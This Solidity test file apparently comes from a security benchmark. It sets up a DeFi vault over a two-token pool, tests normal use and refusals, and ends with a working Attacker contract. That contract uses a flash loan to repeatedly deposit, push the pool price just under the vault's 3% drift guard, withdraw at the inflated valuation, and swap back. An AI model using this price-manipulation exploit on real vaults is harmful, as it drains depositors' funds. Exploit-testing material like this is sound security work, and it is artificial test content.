// SPDX-License-Identifier: AGPL-3.0-only
pragma solidity 0.7.6;

import "./LarchDollarVault.sol";

// assay-canary-1f748574-920b-43f4-84eb-3e53b2ddecb6

interface Vm {
    function prank(address sender) external;
    function expectRevert(bytes calldata reason) external;
}

contract Dollar {
    address private maker = msg.sender;
    bool private asleep;

    /// While it sleeps, it says no.
    function sleep(bool asleep_) external {
        require(msg.sender == maker, "maker only");
        asleep = asleep_;
    }

    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        if (asleep) return false;
        require(balanceOf[msg.sender] >= amount, "balance");
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (asleep) return false;
        require(allowance[from][msg.sender] >= amount && balanceOf[from] >= amount, "balance");
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

interface IBorrower {
    function onLoan(uint256 amount) external;
}

/// Lends everything it has within one transaction, for nothing.
contract FlashLender {
    Dollar internal usd;

    constructor(Dollar usd_) {
        usd = usd_;
    }

    function lend(uint256 amount) external {
        uint256 before = usd.balanceOf(address(this));
        usd.transfer(msg.sender, amount);
        IBorrower(msg.sender).onLoan(amount);
        require(usd.balanceOf(address(this)) >= before, "not repaid");
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant SAVER = address(0x5A7E);
    address internal constant GUEST = address(0x63E5);
    uint256 internal constant M = 1e6 * 1e18;

    Dollar internal a;
    Dollar internal b;
    TwinPool internal pool;
    LarchDollarVault internal vault;
    Attacker internal thief;

    function setUp() public {
        a = new Dollar();
        b = new Dollar();
        pool = new TwinPool(IDollarToken(address(a)), IDollarToken(address(b)));
        a.mint(address(this), 400 * M);
        b.mint(address(this), 460 * M);
        a.approve(address(pool), 400 * M);
        b.approve(address(pool), 460 * M);
        pool.join(400 * M, 460 * M, 0);

        vault = new LarchDollarVault(pool);
        a.mint(SAVER, 120 * M);
        vm.prank(SAVER);
        a.approve(address(vault), 120 * M);
        vm.prank(SAVER);
        vault.deposit(120 * M);
        vault.invest(60 * M, 1);

        FlashLender lender = new FlashLender(a);
        a.mint(address(lender), 270 * M);
        thief = new Attacker(vault, lender, a, b);
    }

    function near(uint256 x, uint256 y) private pure returns (bool) {
        return x <= y && x + 10 >= y;
    }

    function test_Regular() public {
        require(vault.balanceOf(SAVER) == 120 * M && vault.idle() == 60 * M, "first");
        uint256 total = vault.totalAssets();
        require(total > 115 * M && total < 125 * M && vault.marked() == total - 60 * M, "total");

        a.mint(GUEST, 10 * M);
        vm.prank(GUEST);
        a.approve(address(vault), 10 * M);
        vm.prank(GUEST);
        vault.deposit(10 * M);
        uint256 shares = vault.balanceOf(GUEST);
        require(near(vault.totalAssets(), total + 10 * M), "in");
        vm.prank(GUEST);
        (bool ok, ) = address(vault).call(abi.encodeWithSelector(vault.withdraw.selector, shares, 11 * M));
        require(!ok, "least");
        vm.prank(GUEST);
        vault.withdraw(shares, 0);
        require(near(a.balanceOf(GUEST), 10 * M), "out");

        // a small swap does not disturb anybody
        a.mint(address(this), M);
        a.approve(address(pool), M);
        uint256 out = pool.swap(true, M, 0);
        require(out > 0.98 ether * 1e6 && out < 1.01 ether * 1e6, "swap");
        vm.prank(SAVER);
        vault.withdraw(M, 0);

        vm.prank(SAVER);
        (ok, ) = address(vault).call(abi.encodeWithSelector(vault.withdraw.selector, 100 * M, 0));
        require(!ok, "more than is idle");
        (ok, ) = address(thief).call(abi.encodeWithSelector(thief.onLoan.selector, 1));
        require(!ok, "lender only");
        vm.prank(SAVER);
        (ok, ) = address(vault).call(abi.encodeWithSelector(vault.divest.selector, 1, 0));
        require(!ok, "steward");
        vault.divest(vault.partsHeld(), 58 * M);
        require(vault.invested() == 0 && vault.idle() > 117 * M, "divested");
        vm.prank(SAVER);
        vault.withdraw(100 * M, 95 * M);

        vault.mark();
        require(vault.marked() == vault.invested(), "marked");
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// Trades for no less than asked, and parts that there are.
    function test_RefusesTrades() public {
        a.mint(address(this), 10 * M);
        a.approve(address(pool), 10 * M);
        vm.expectRevert("pool: least");
        pool.swap(true, 0, 0);
        vm.expectRevert("pool: least");
        pool.swap(true, 1000, 2000);
        vm.expectRevert("pool: least");
        pool.joinOne(0, 0);
        vm.expectRevert("pool: least");
        pool.joinOne(1 ether, 2 ether);
        vm.expectRevert("pool: least");
        pool.exitOne(1 ether, 4 ether);
        refuses(SAVER, "pool: parts");
        pool.exitOne(1, 0);
        uint256 all = pool.partsTotal();
        vm.expectRevert("pool: parts");
        pool.quoteOne(all + 1);
        vm.expectRevert("pool: parts");
        pool.worth(all + 1);
    }

    /// The steward's business, with what is idle and held.
    function test_RefusesSavers() public {
        refuses(SAVER, "vault: steward");
        vault.invest(1, 0);
        refuses(SAVER, "vault: steward");
        vault.divest(1, 0);
        refuses(SAVER, "vault: steward");
        vault.mark();
        vm.expectRevert("vault: idle");
        vault.invest(60 * M + 1, 0);
        uint256 held = vault.partsHeld();
        vm.expectRevert("vault: parts");
        vault.divest(held + 1, 0);
        refuses(SAVER, "vault: steward");
        vault.divest(held + 1, 0);
        refuses(GUEST, "vault: shares");
        vault.withdraw(1, 0);
        refuses(SAVER, "vault: assets");
        vault.withdraw(100 * M, 0);
        vm.expectRevert("vault: nothing");
        vault.deposit(0);
    }

    /// Nothing is counted while the pool is far from the mark, on either side.
    function test_RefusesDrift() public {
        b.mint(address(this), 60 * M);
        b.approve(address(pool), 60 * M);
        pool.swap(false, 60 * M, 0);
        _refusesToCount();
        uint256 got = a.balanceOf(address(this));
        a.mint(address(this), 60 * M);
        a.approve(address(pool), got + 60 * M);
        pool.swap(true, got + 60 * M, 0);
        _refusesToCount();
    }

    function _refusesToCount() private {
        uint256 current = vault.invested() * 100;
        bool near_ = current >= vault.marked() * 97 && current <= vault.marked() * 103;
        a.mint(address(this), 1 ether);
        a.approve(address(vault), 1 ether);
        (bool taken, ) = address(vault).call(abi.encodeWithSelector(vault.deposit.selector, 1 ether));
        vm.prank(SAVER);
        (bool given, ) = address(vault).call(abi.encodeWithSelector(vault.withdraw.selector, 1 ether, 0));
        require(taken == near_ && given == near_, "counted far from the mark");
    }

    /// Dollars that say no are believed.
    function test_RefusesFailedTransfers() public {
        a.sleep(true);
        vm.expectRevert("vault: pull");
        vault.deposit(0);
        refuses(SAVER, "vault: push");
        vault.withdraw(1 ether, 0);
        vm.expectRevert("pool: pull");
        pool.swap(true, 1 ether, 0);
        vm.expectRevert("pool: push");
        pool.exitOne(1 ether, 0);
    }

    function exploit() public {
        thief.run();
    }

    function test_Exploit() public {
        uint256 before = a.balanceOf(address(thief));
        exploit();
        require(a.balanceOf(address(thief)) >= before + 33 * M, "nothing gained");
    }

    function target() public view returns (address) {
        return address(vault);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }

    function token() public view returns (address) {
        return address(a);
    }
}

/// Deposits, pushes the quote of the pool up by not quite three parts of a hundred, withdraws, and lets it down again.
contract Attacker is IBorrower {
    uint256 internal constant M = 1e6 * 1e18;

    LarchDollarVault internal vault;
    TwinPool internal pool;
    FlashLender internal lender;
    Dollar internal a;
    Dollar internal b;

    constructor(LarchDollarVault vault_, FlashLender lender_, Dollar a_, Dollar b_) {
        vault = vault_;
        pool = vault_.pool();
        lender = lender_;
        a = a_;
        b = b_;
    }

    function run() external {
        lender.lend(270 * M);
    }

    function onLoan(uint256 amount) external override {
        require(msg.sender == address(lender), "lender only");
        a.approve(address(vault), uint256(-1));
        a.approve(address(pool), uint256(-1));
        b.approve(address(pool), uint256(-1));
        uint256 push = (pool.reserveA() * 29) / 1000;
        uint256 last = 0;
        while (a.balanceOf(address(this)) > last && last < amount + 33 * M) {
            last = a.balanceOf(address(this));
            uint256 shares = vault.deposit(250 * M);
            uint256 out = pool.swap(true, push, 0);
            vault.withdraw(shares, 0);
            pool.swap(false, out, 0);
        }
        a.transfer(address(lender), amount);
    }
}
